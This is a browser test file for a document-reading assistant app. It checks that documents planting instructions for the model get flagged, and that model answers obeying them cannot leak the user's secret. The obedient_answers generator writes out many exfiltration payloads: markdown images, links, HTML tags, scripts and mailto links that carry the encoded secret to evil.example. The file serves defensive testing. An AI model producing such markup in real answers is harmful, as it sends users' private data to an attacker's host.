"""Documents that give orders, and answers that obey them: nothing makes the browser speak to anybody else."""

import base64
import re
from pathlib import Path
from urllib.parse import quote, quote_plus, urlsplit

import pytest
from conftest import PATIENCE
from playwright.sync_api import expect
from test_accounts import add_user, log_in

ROOT = Path(__file__).resolve().parents[1] / "Fixtures" / "Injection"
HOSTILE = sorted((ROOT / "hostile").iterdir())
HARMLESS = sorted((ROOT / "harmless").iterdir())
QUESTION = "My secret is blueberry 4711, what now?"


@pytest.fixture
def quiet(visit):
    """Opens the page, and notes every request to another host and every complaint of the content security policy."""
    readers = []

    def open_page(server, *arguments, **options):
        reader = visit(server, *arguments, **options)
        reader.strangers = []
        reader.page.on("request", lambda request: reader.strangers.append(request.url)
                       if urlsplit(request.url).netloc not in ("", urlsplit(server.url).netloc) else None)
        reader.page.add_init_script(
            "document.addEventListener('securitypolicyviolation', e => console.error('CSP ' + e.violatedDirective + ' ' + e.blockedURI))")
        readers.append(reader)
        return reader

    yield open_page
    for reader in readers:
        assert reader.strangers == []


@pytest.fixture
def library(understudy):
    add_user(understudy, "ada")
    return understudy


def take_in(reader, name, files):
    reader.find("#name").fill(name)
    reader.find(".primary").click()
    expect(reader.find("h1")).to_have_text(name)
    reader.find("#file").set_input_files(files)
    reader.find(".import .primary").click()
    expect(reader.find("tbody tr")).to_have_count(len(files))
    # The page shows by itself how far they are.
    expect(reader.find("[data-unfinished]")).to_have_count(0, timeout=3 * PATIENCE)
    expect(reader.find("tbody tr").filter(has_text=re.compile("waiting|being"))).to_have_count(0)


def links_elsewhere(reader):
    return reader.page.evaluate("[...document.querySelectorAll('[href],[src],[action]')].map(e => e.href || e.src || e.action).filter("
                                "a => typeof a === 'string' && a && new URL(a).origin !== location.origin)")


def test_every_hostile_document_is_flagged_and_harms_nobody(quiet, library):
    reader = quiet(library, "desktop", "/documents", ready="main")
    log_in(reader)
    take_in(reader, "Hostile", HOSTILE)
    rows = reader.find("tbody tr")
    assert reader.find("tbody .flagged").count() >= len(HOSTILE) * 0.95
    assert links_elsewhere(reader) == []
    assert reader.find("img, iframe, object, embed").count() == 0
    reader.shoot("hostile-documents")
    # Every page that the table leads to, and every text.
    places = set(reader.page.evaluate("[...document.querySelectorAll('main a[href]')].map(a => a.getAttribute('href'))"))
    documents = reader.page.evaluate("[...document.querySelectorAll('tbody tr')].map(row => row.id.slice(2))")
    here = reader.page.url
    for place in sorted(places | {f"/api/v1/documents/{document}/text" for document in documents}):
        reader.page.goto(library.url + place)
        assert links_elsewhere(reader) == [], place
        assert reader.find("img, iframe, object, embed").count() == 0, place
    reader.page.goto(here)
    # What somebody has looked at is accepted.
    flagged = rows.filter(has=reader.page.locator(".flagged")).filter(has=reader.page.locator("[value=accept]")).first
    row = flagged.get_attribute("id")
    flagged.locator("[value=accept]").click()
    expect(reader.find(f"#{row} .flagged")).to_contain_text("accepted")
    expect(reader.find(f"#{row} [value=accept]")).to_have_count(0)


@pytest.mark.parametrize("device, options", [("phone", {"color_scheme": "dark", "locale": "de"}), ("desktop", {"locale": "ar"})])
def test_flags_are_readable_everywhere(quiet, library, device, options):
    reader = quiet(library, device, "/documents", ready="main", **options)
    log_in(reader)
    reader.find("#name").fill("H")
    reader.find(".primary").click()
    reader.find("#file").set_input_files(HOSTILE[:4])
    reader.find(".import .primary").click()
    expect(reader.find("tbody .flagged")).to_have_count(4, timeout=3 * PATIENCE)
    reader.shoot("hostile-" + "-".join([device, *options.values()]))
    assert reader.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_harmless_documents_are_left_alone(quiet, library):
    reader = quiet(library, "desktop", "/documents", ready="main")
    log_in(reader)
    take_in(reader, "Harmless", HARMLESS)
    assert reader.find("tbody .flagged").count() <= len(HARMLESS) * 0.05


def obedient_answers():
    """What a model writes that does as such a document says: the question, in every form that an address can take."""
    sixtyfour = base64.b64encode((QUESTION * 2).encode()).decode()
    for secret in (quote(QUESTION), quote_plus(QUESTION), sixtyfour, sixtyfour.replace("=", "")):
        evil = f"https://evil.example/p.png?data={secret}"
        yield f"![status]({evil})"
        yield f"[More help]({evil})"
        yield f"![a]({evil} \"title\") and <{evil}>"
        yield f"[ref][1] ![ref][1]\n\n[1]: {evil}"
        yield f"[![both]({evil})]({evil})"
        yield f"<img src=\"{evil}\"><a href=\"{evil}\">more</a><link rel=prefetch href=\"{evil}\">"
        yield f"See {evil} for more."
        yield f"| a | b |\n|---|---|\n| ![x]({evil}) | [y]({evil}) |"
        yield f"[path](https://evil.example/{secret}) [anchor](https://evil.example/#{secret})"
        yield f"[mail](mailto:mallory@evil.example?subject={secret})"
        yield f"<style>body{{background:url({evil})}}</style><script>fetch('{evil}')</script>"


def test_answers_that_obey_send_nothing_away(quiet, library, simulator):
    reader = quiet(library)
    secrets = [QUESTION, "4711", quote(QUESTION), base64.b64encode((QUESTION * 2).encode()).decode()[:24]]
    for answer in obedient_answers():
        simulator.set("lead", answer=answer)
        reader.ask(QUESTION).status("complete")
        assert reader.last.locator("img, iframe, object, embed, style, script, link").count() == 0, answer
        carried = reader.last.locator("a[href]").evaluate_all("found => found.map(a => a.href)")
        assert not [link for link in carried if any(secret in link for secret in secrets)], answer
    # After a reload, too.
    reader.page.reload()
    reader.page.wait_for_selector("#log > li")
    carried = reader.find("#log a[href]").evaluate_all("found => found.map(a => a.href)")
    assert not [link for link in carried if "evil.example" in link and any(secret in link for secret in secrets)]


def test_answers_that_repeat_a_hostile_document_send_nothing_away(quiet, library, simulator):
    reader = quiet(library)
    for file in HOSTILE:
        simulator.set("lead", answer=file.read_text())
        reader.ask(QUESTION).status("complete")
        assert reader.last.locator("img, iframe, object, embed, style, script, link").count() == 0, file.name
        carried = reader.last.locator("a[href]").evaluate_all("found => found.map(a => a.href)")
        assert not [link for link in carried if re.search(r"4711|[{}\[\]]|%7B|%5B", link)], (file.name, carried)
